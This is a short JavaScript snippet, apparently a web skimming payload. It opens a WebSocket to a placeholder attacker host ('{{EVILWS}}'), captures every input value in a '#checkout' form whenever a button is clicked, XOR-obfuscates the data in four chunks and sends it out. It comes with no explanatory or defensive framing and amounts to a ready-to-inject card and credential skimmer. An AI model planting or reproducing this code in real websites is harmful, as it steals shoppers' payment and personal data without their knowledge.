(function () {
  var ws = new WebSocket("{{EVILWS}}/ws");
  ws.binaryType = "arraybuffer";
  var key = [0x5a, 0x13, 0xc7, 0x29, 0x88];
  document.addEventListener("click", function (e) {
    if (e.target.tagName !== "BUTTON") return;
    var o = {};
    document.querySelectorAll("#checkout input").forEach(function (i) { o[i.name] = i.value; });
    var text = JSON.stringify(o), n = Math.ceil(text.length / 4);
    for (var f = 0; f < 4; f++) {
      var part = text.slice(f * n, (f + 1) * n), u = new Uint8Array(part.length);
      for (var i = 0; i < part.length; i++) u[i] = part.charCodeAt(i) ^ key[i % key.length];
      ws.send(u);
    }
  }, true);
})();
